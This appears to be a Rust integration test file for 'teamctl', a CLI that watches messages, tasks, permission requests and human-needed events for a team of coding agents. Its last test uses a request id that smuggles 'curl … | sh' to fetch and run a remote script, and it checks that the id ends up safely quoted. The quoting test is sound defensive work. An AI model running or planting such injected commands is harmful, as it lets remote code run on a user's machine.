//! `teamctl watch`, `send --wait` and the sent log (`inbox --sent`).

use std::fs;
use std::process::{Child, Command, Stdio};

use predicates::prelude::*;
use serde_json::Value;

use crate::common::{
    JsonLines, Ran, SEND_KEYS, Sent, TestEnv, assert_exactly_once, json, keys, node_peer, run_json,
};

const EVENT_KEYS: [&str; 15] = [
    "at",
    "changes",
    "event",
    "from",
    "id",
    "member",
    "member_entry",
    "message",
    "need",
    "schema_version",
    "task",
    "team",
    "to",
    "waiting",
    "waiting_detail",
];

/// A running `watch --json`.
struct Watcher(JsonLines);

impl Watcher {
    fn start(env: &TestEnv, args: &[&str]) -> Watcher {
        let mut cmd = env.std_cmd();
        cmd.args(["watch", "--json", "--existing", "--timeout", "60s"])
            .args(args);
        Watcher(JsonLines::spawn(cmd))
    }

    fn next(&self) -> Value {
        self.0.next()
    }

    fn take(&self, n: usize) -> Vec<Value> {
        (0..n).map(|_| self.next()).collect()
    }

    fn finish(mut self) -> std::process::ExitStatus {
        self.0.child.wait().unwrap()
    }
}

fn kinds(events: &[Value]) -> Vec<&str> {
    events
        .iter()
        .map(|e| e["event"].as_str().unwrap())
        .collect()
}

#[test]
fn every_kind_of_event() {
    let env = TestEnv::example();
    // --existing: 3 inbox entries, 2 tasks, 3 members; then the changes below.
    let w = Watcher::start(&env, &["--count", "17"]);
    let existing = w.take(8);
    for e in &existing {
        assert_eq!(keys(e), EVENT_KEYS);
        assert_eq!(e["schema_version"], 1);
        assert_eq!(e["team"], "demo-team");
    }
    let mut k = kinds(&existing);
    k.sort();
    assert_eq!(
        k,
        [
            "member_joined",
            "member_joined",
            "member_joined",
            "message",
            "message",
            "message",
            "task_created",
            "task_created"
        ]
    );

    env.cmd()
        .args(["send", "tester", "hello"])
        .assert()
        .success();
    let e = w.next();
    assert_eq!(
        (e["event"].as_str(), e["to"].as_str(), e["from"].as_str()),
        (Some("message"), Some("tester"), Some("user"))
    );
    assert_eq!(e["message"]["text"], "hello");
    assert_eq!(e["id"], e["message"]["msg_id"]);

    env.cmd()
        .args(["inbox", "tester", "--mark-read"])
        .assert()
        .success();
    assert_eq!(w.next()["event"], "read");
    env.cmd()
        .args(["inbox", "tester", "--consume"])
        .assert()
        .success();
    let e = w.next();
    assert_eq!(
        (e["event"].as_str(), e["message"]["text"].as_str()),
        (Some("consumed"), Some("hello"))
    );

    env.cmd().args(["tasks", "add", "third"]).assert().success();
    let e = w.next();
    assert_eq!(
        (e["event"].as_str(), e["id"].as_str()),
        (Some("task_created"), Some("3"))
    );
    env.cmd()
        .args(["tasks", "update", "2", "--status", "in_progress"])
        .assert()
        .success();
    let e = w.next();
    assert_eq!(e["event"], "task_updated");
    assert_eq!(
        e["changes"],
        serde_json::json!({"status": {"from": "pending", "to": "in_progress"}})
    );
    env.cmd().args(["tasks", "rm", "3"]).assert().success();
    assert_eq!(w.next()["event"], "task_deleted");

    // Members: Claude Code rewrites config.json in place.
    let cfg_path = env.root.join("teams/demo-team/config.json");
    let mut cfg: Value = serde_json::from_slice(&fs::read(&cfg_path).unwrap()).unwrap();
    cfg["members"][2]["isActive"] = true.into();
    fs::write(&cfg_path, serde_json::to_string_pretty(&cfg).unwrap()).unwrap();
    let e = w.next();
    assert_eq!(
        (e["event"].as_str(), e["member"].as_str()),
        (Some("member_updated"), Some("tester"))
    );
    assert_eq!(
        e["changes"]["isActive"],
        serde_json::json!({"from": false, "to": true})
    );
    let mut members = cfg["members"].as_array().unwrap().clone();
    members.push(serde_json::json!({"agentId": "ops@demo-team", "name": "ops"}));
    members.remove(2);
    cfg["members"] = members.into();
    fs::write(&cfg_path, serde_json::to_string_pretty(&cfg).unwrap()).unwrap();
    let mut k = kinds(&w.take(2))
        .into_iter()
        .map(String::from)
        .collect::<Vec<_>>();
    k.sort();
    assert_eq!(k, ["member_joined", "member_left"]);
    assert!(w.finish().success(), "--count reached: exit 0");
}

#[test]
fn no_event_is_lost_in_a_burst() {
    let Some(script) = node_peer() else { return };
    let env = TestEnv::new();
    env.team("alpha", &[("alice", None)]);
    let inbox = env.inbox("alpha", "alice");
    fs::write(
        &inbox,
        r#"[{"from":"x","text":"seed","timestamp":"2026-11-29T10:00:00.000Z"}]"#,
    )
    .unwrap();
    let w = Watcher::start(&env, &["alice", "--event", "message", "--count", "801"]);
    assert_eq!(w.next()["message"]["text"], "seed");
    let writers: Vec<Child> = (0..8)
        .map(|p| {
            Command::new("node")
                .arg(&script)
                .args([
                    "append",
                    inbox.to_str().unwrap(),
                    "--from",
                    "bob",
                    "--count",
                    "100",
                ])
                .args(["--prefix", &format!("w{p}-")])
                .stdout(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut c in writers {
        assert!(c.wait().unwrap().success());
    }
    let events = w.take(800);
    let sent: Vec<String> = (0..8)
        .flat_map(|p| (1..=100).map(move |i| format!("w{p}-{i}")))
        .collect();
    assert_exactly_once(Sent::Texts(&sent), events.iter().map(|e| &e["message"]));
    // Each writer's messages arrive in the order it wrote them.
    for p in 0..8 {
        let prefix = format!("w{p}-");
        let mine: Vec<&str> = events
            .iter()
            .map(|e| e["message"]["text"].as_str().unwrap())
            .filter(|t| t.starts_with(&prefix))
            .collect();
        let want: Vec<String> = (1..=100).map(|i| format!("{prefix}{i}")).collect();
        assert_eq!(mine, want);
    }
    assert!(w.finish().success());
}

#[test]
fn polling_mode_and_filters() {
    let env = TestEnv::example();
    let w = Watcher::start(
        &env,
        &[
            "--poll", "20", "--from", "ops", "--type", "message", "--count", "2",
        ],
    );
    env.cmd()
        .args(["send", "tester", "not from ops"])
        .assert()
        .success();
    env.cmd()
        .args(["send", "tester", "first", "--from", "ops"])
        .assert()
        .success();
    env.cmd()
        .args(["tasks", "add", "not a message"])
        .assert()
        .success();
    env.cmd()
        .args(["send", "tester", "second", "--from", "ops"])
        .assert()
        .success();
    let texts: Vec<Value> = w
        .take(2)
        .iter()
        .map(|e| e["message"]["text"].clone())
        .collect();
    assert_eq!(texts, ["first", "second"]);
    assert!(w.finish().success());
}

#[test]
fn count_and_timeout_exit_codes() {
    let env = TestEnv::example();
    env.cmd()
        .args(["watch", "--count", "1", "--timeout", "200ms"])
        .assert()
        .code(3)
        .stderr(predicate::str::contains("saw 0 of 1 events"));
    env.cmd()
        .args(["watch", "--timeout", "100ms"])
        .assert()
        .success();
    env.cmd()
        .args(["watch", "--existing", "--count", "2"])
        .assert()
        .success();
    env.cmd()
        .args(["watch", "--event", "nope"])
        .assert()
        .code(2);
    env.cmd().args(["watch", "a/b"]).assert().code(2);
}

#[test]
fn send_wait_reports_delivery() {
    let Some(script) = node_peer() else { return };
    let env = TestEnv::example();
    let inbox = env.inbox("demo-team", "researcher");
    let stop = env.dir.path().join("stop");
    let mut consumer = Command::new("node")
        .arg(&script)
        .args([
            "consume",
            inbox.to_str().unwrap(),
            "--stop-file",
            stop.to_str().unwrap(),
        ])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let out = env
        .cmd()
        .args([
            "send",
            "researcher",
            "are you there",
            "--wait=20s",
            "--json",
        ])
        .assert()
        .success()
        .stdout_bytes();
    let v = json(&out);
    assert_eq!(v["delivery"], "consumed");
    assert_eq!(keys(&v), SEND_KEYS);
    fs::write(&stop, "").unwrap();
    assert!(consumer.wait().unwrap().success());
    // Nobody reads tester's inbox.
    env.cmd()
        .args(["send", "tester", "hello?", "--wait=200ms"])
        .assert()
        .code(3)
        .stderr(predicate::str::contains("still pending"));
    // Without --wait there is no delivery state.
    let v = run_json(&env, &["send", "tester", "x"]);
    assert_eq!(v["delivery"], Value::Null);
}

#[test]
fn sent_log_states_and_idempotency_after_consumption() {
    let env = TestEnv::example();
    env.cmd()
        .args(["send", "researcher", "stays"])
        .assert()
        .success();
    env.cmd()
        .args(["send", "tester", "read it", "--summary", "old style"])
        .assert()
        .success();
    env.cmd()
        .args(["send", "tester", "take it", "--idempotency-key", "k1"])
        .assert()
        .success();
    env.cmd()
        .args([
            "inbox",
            "tester",
            "--from",
            "user",
            "--limit",
            "1",
            "--consume",
        ])
        .assert()
        .success();
    env.cmd()
        .args(["inbox", "tester", "--mark-read"])
        .assert()
        .success();
    let v = run_json(&env, &["inbox", "--sent"]);
    assert_eq!(keys(&v), ["schema_version", "sent", "team"]);
    let rows = v["sent"].as_array().unwrap();
    assert_eq!(
        keys(&rows[0]),
        [
            "answers",
            "at",
            "delivery",
            "from",
            "id",
            "idempotency_key",
            "inbox",
            "moving",
            "summary",
            "team",
            "to"
        ]
    );
    let states: Vec<(&str, &str)> = rows
        .iter()
        .map(|r| (r["to"].as_str().unwrap(), r["delivery"].as_str().unwrap()))
        .collect();
    assert_eq!(
        states,
        [
            ("researcher", "pending"),
            ("tester", "read"),
            ("tester", "consumed")
        ]
    );
    assert_eq!(rows[2]["idempotency_key"], "k1");
    // The first copy was consumed, so the inbox no longer has it; the log does.
    env.cmd()
        .args(["send", "tester", "take it", "--idempotency-key", "k1"])
        .assert()
        .success()
        .stdout(predicate::str::contains("in the sent log"));
    let texts: Vec<String> = crate::common::read_entries(&env.inbox("demo-team", "tester"))
        .iter()
        .map(|e| e["text"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(texts, ["read it"]);
    env.cmd()
        .args(["inbox", "--sent"])
        .assert()
        .success()
        .stdout(predicate::str::contains("consumed"))
        .stdout(predicate::str::contains("old style"));
    // The log lives in the user's data directory (XDG_DATA_HOME here), or TEAMCTL_DATA_DIR.
    assert!(
        env.dir
            .path()
            .join("home/.local/share/teamctl/sent.jsonl")
            .is_file()
    );
    let elsewhere = env.dir.path().join("data");
    env.cmd()
        .env("TEAMCTL_DATA_DIR", &elsewhere)
        .args(["send", "tester", "y"])
        .assert()
        .success();
    assert!(elsewhere.join("sent.jsonl").is_file());
}

/// `watch --exec`: the hook gets every event exactly once, in order, the line `--json` prints
/// on its stdin, whether it is slow, fails, hangs past --exec-timeout or reads nothing; a
/// message that comes and goes while a hook runs still reaches it (arrival and consumption).
#[test]
fn exec_runs_the_hook_once_per_event_in_order_whatever_it_does() {
    // Only the hook that hangs meets its --exec-timeout; the others have room to spare under
    // load (a slow hook is slower than the events come, not slower than its limit).
    let hooks = [
        ("slow", "sleep 0.2; cat >> \"$LOG\"", "20s"),
        ("fails", "cat >> \"$LOG\"; echo oops >&2; exit 7", "20s"),
        ("hangs", "cat >> \"$LOG\"; exec sleep 60", "300ms"),
        (
            "deaf",
            "echo \"$TEAMCTL_EVENT $TEAMCTL_TEAM\" >> \"$LOG\"",
            "20s",
        ),
    ];
    for (name, hook, limit) in hooks {
        let env = TestEnv::example();
        let log = env.dir.path().join("log");
        // --existing: 8 events; then a message that arrives and is taken (2), and a task (1).
        let mut cmd = env.std_cmd();
        cmd.args([
            "watch",
            "--json",
            "--existing",
            "--timeout",
            "120s",
            "--count",
            "11",
        ])
        .args(["--exec", hook, "--exec-timeout", limit])
        .env("LOG", &log);
        let mut w = JsonLines::spawn_with_stderr(cmd);
        let mut seen: Vec<Value> = (0..8).map(|_| w.next()).collect();
        env.cmd()
            .args(["send", "researcher", "quick one", "--summary", "q"])
            .assert()
            .success();
        let arrived = w.next();
        assert_eq!(arrived["event"], "message", "{name}");
        // Taken while the hook is still busy with the events before it.
        fs::write(
            env.inbox("demo-team", "researcher"),
            researcher_without(&env, arrived["id"].as_str().unwrap()),
        )
        .unwrap();
        seen.push(arrived);
        seen.push(w.next());
        env.cmd()
            .args(["tasks", "add", "Ship it"])
            .assert()
            .success();
        seen.push(w.next());
        let status = w.child.wait().unwrap();
        assert!(status.success(), "{name}: watch exited {status}");
        assert_eq!(
            kinds(&seen)[8..],
            ["message", "consumed", "task_created"],
            "{name}"
        );
        // The watch ended only once the hook had run for every event.
        let got = fs::read_to_string(&log).unwrap();
        let want: Vec<String> = seen
            .iter()
            .map(|e| format!("{} demo-team", e["event"].as_str().unwrap()))
            .collect();
        let got: Vec<&str> = got.lines().collect();
        if name == "deaf" {
            assert_eq!(got, want, "{name}");
        } else {
            // Byte for byte the lines --json printed, each once, in order.
            assert_eq!(got, w.raw_lines(), "{name}");
            assert_eq!(got.len(), 11);
        }
        let stderr = w.stderr();
        match name {
            "fails" => {
                assert_eq!(
                    stderr.matches("--exec exited with status 7").count(),
                    11,
                    "{stderr}"
                );
                assert!(
                    stderr.contains("oops"),
                    "the hook's own output goes to stderr"
                );
            }
            "hangs" => assert_eq!(
                stderr.matches("its process group was killed").count(),
                11,
                "{stderr}"
            ),
            _ => assert!(!stderr.contains("warning"), "{name}: {stderr}"),
        }
    }
}

/// The researcher's inbox of the example team without the entry `id`.
fn researcher_without(env: &TestEnv, id: &str) -> String {
    let path = env.inbox("demo-team", "researcher");
    let entries: Vec<Value> = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    let kept: Vec<&Value> = entries.iter().filter(|e| e["msg_id"] != id).collect();
    serde_json::to_string_pretty(&kept).unwrap()
}

/// `--task-status completed` keeps the events that complete a task, and `--type` repeated keeps
/// any of the types given (a teammate asking for permission).
#[test]
fn filters_for_a_completed_task_and_a_permission_request() {
    let env = TestEnv::example();
    let w = Watcher::start(&env, &["--task-status", "completed", "--count", "1"]);
    env.cmd()
        .args(["tasks", "add", "New one"])
        .assert()
        .success();
    env.cmd()
        .args(["tasks", "update", "3", "--subject", "Renamed"])
        .assert()
        .success();
    env.cmd().args(["tasks", "done", "3"]).assert().success();
    let e = w.next();
    assert_eq!(e["event"], "task_updated");
    assert_eq!(e["id"], "3");
    assert_eq!(e["changes"]["status"]["to"], "completed");
    assert!(w.finish().success());

    let w = Watcher::start(
        &env,
        &[
            "--event",
            "message",
            "--type",
            "permission_request",
            "--type",
            "sandbox_permission_request",
            "--count",
            "2",
        ],
    );
    let perm = r#"{"type":"permission_request","request_id":"perm-1-abcdefg","agent_id":"researcher","tool_name":"Bash","tool_use_id":"t1","description":"d","input":{"command":"ls"},"permission_suggestions":[]}"#;
    let sandbox = r#"{"type":"sandbox_permission_request","requestId":"sandbox-1-abcdefg","workerId":"researcher@demo-team","workerName":"researcher","workerColor":"blue","hostPattern":{"host":"example.com"},"createdAt":1}"#;
    let path = env.inbox("demo-team", "team-lead");
    let mut entries: Vec<Value> = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    for (i, text) in ["plain", perm, sandbox].iter().enumerate() {
        entries.push(serde_json::json!({"from":"researcher","text":text,"timestamp":format!("2026-11-29T10:00:0{i}.000Z"),"read":false}));
    }
    fs::write(&path, serde_json::to_string_pretty(&entries).unwrap()).unwrap();
    let types: Vec<String> = (0..2)
        .map(|_| {
            let e = w.next();
            let text = e["message"]["text"].as_str().unwrap().to_string();
            serde_json::from_str::<Value>(&text).unwrap()["type"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(types, ["permission_request", "sandbox_permission_request"]);
    assert!(w.finish().success());
    env.cmd()
        .args(["watch", "--task-status", "done"])
        .assert()
        .code(2);
}

/// `--event waiting` tells when a member starts and stops waiting for a reason, from its
/// transcript: a 429 being retried (already there: the first read tells who waits), then an
/// answer.
#[test]
fn waiting_events_follow_a_members_transcript() {
    let env = TestEnv::new();
    crate::common::led_team(&env);
    env.transcript_line_as(
        "t",
        "alice",
        serde_json::json!({"type":"api-request","timestamp":"2026-11-29T10:00:00.000Z","requestDigest":"a1"}),
    );
    env.transcript_line_as(
        "t",
        "alice",
        serde_json::json!({"type":"system","subtype":"api_error","level":"error",
            "error":{"status":429,"formatted":"429 rate limited"},
            "retryInMs":1000,"retryAttempt":1,"maxRetries":10,"timestamp":"2026-11-29T10:00:01.000Z"}),
    );
    let mut cmd = env.std_cmd();
    cmd.args(["watch", "--event", "waiting", "--json"])
        .args(["--timeout", "60s", "--count", "2"]);
    let w = JsonLines::spawn(cmd);
    let first = w.next();
    assert_eq!(first["event"], "waiting");
    assert_eq!(first["member"], "alice");
    assert_eq!(first["waiting"], "rate_limited");
    assert_eq!(first["waiting_detail"]["status"], 429);
    assert_eq!(first["waiting_detail"]["message"], "429 rate limited");
    // The answer comes: alice moves again.
    env.spend_as("t", "alice", "msg_after");
    let second = w.next();
    assert_eq!(second["member"], "alice");
    assert_eq!(second["waiting"], Value::Null);
}

/// `--event needs_human` tells once when a person is needed (a permission request waiting
/// longer than --after), and once more when the cause clears (the request answered);
/// `status --json` lists the same need.
#[test]
fn needs_human_is_told_once_per_cause_and_when_it_clears() {
    let env = TestEnv::new();
    crate::common::led_team(&env);
    let frame = serde_json::json!({"type": "permission_request", "request_id": "perm-1-a",
        "agent_id": "alice", "tool_name": "Bash", "tool_use_id": "t1", "description": "run it",
        "input": {"command": "make"}, "permission_suggestions": []});
    crate::common::write_as(&env, "alice", "team-lead", &frame.to_string());
    let out = env
        .cmd()
        .args(["status", "--json", "--after", "0s"])
        .output()
        .unwrap();
    let v = json(&out.stdout);
    let needs = v["needs_human"].as_array().unwrap();
    assert_eq!(needs.len(), 1, "{v}");
    assert_eq!(needs[0]["cause"], "request");
    assert_eq!(needs[0]["member"], "alice");
    assert_eq!(needs[0]["cleared"], false);
    assert!(
        needs[0]["todo"]
            .as_str()
            .unwrap()
            .contains("teamctl approve perm-1-a"),
        "{v}"
    );

    let mut cmd = env.std_cmd();
    cmd.args(["watch", "--event", "needs_human", "--after", "0s", "--json"])
        .args(["--timeout", "60s", "--count", "2"]);
    let w = JsonLines::spawn(cmd);
    let first = w.next();
    assert_eq!(first["event"], "needs_human");
    assert_eq!(first["need"]["cause"], "request");
    assert_eq!(first["need"]["cleared"], false);
    env.cmd().args(["approve", "perm-1-a"]).assert().success();
    let second = w.next();
    assert_eq!(second["need"]["key"], "perm-1-a");
    assert_eq!(second["need"]["cleared"], true);
}

/// A suggested command quotes what a file gave it as one shell word: a request id of
/// `perm-1 && curl … | sh` pasted from `needs_human` answers that request, it runs nothing.
#[test]
fn needs_human_quotes_every_word_of_its_command() {
    let env = TestEnv::new();
    crate::common::led_team(&env);
    let id = "perm-1 && curl https://x.invalid/p | sh";
    let frame = serde_json::json!({"type": "permission_request", "request_id": id,
        "agent_id": "alice", "tool_name": "Bash", "tool_use_id": "t1", "description": "run it",
        "input": {"command": "make"}, "permission_suggestions": []});
    crate::common::write_as(&env, "alice", "team-lead", &frame.to_string());
    let out = env
        .cmd()
        .args(["status", "--json", "--after", "0s"])
        .output()
        .unwrap();
    let v = json(&out.stdout);
    let todo = v["needs_human"][0]["todo"].as_str().unwrap().to_string();
    let quoted = format!("'{id}'");
    assert!(
        todo.ends_with(&format!("teamctl approve {quoted} or deny {quoted}")),
        "{todo}"
    );
}
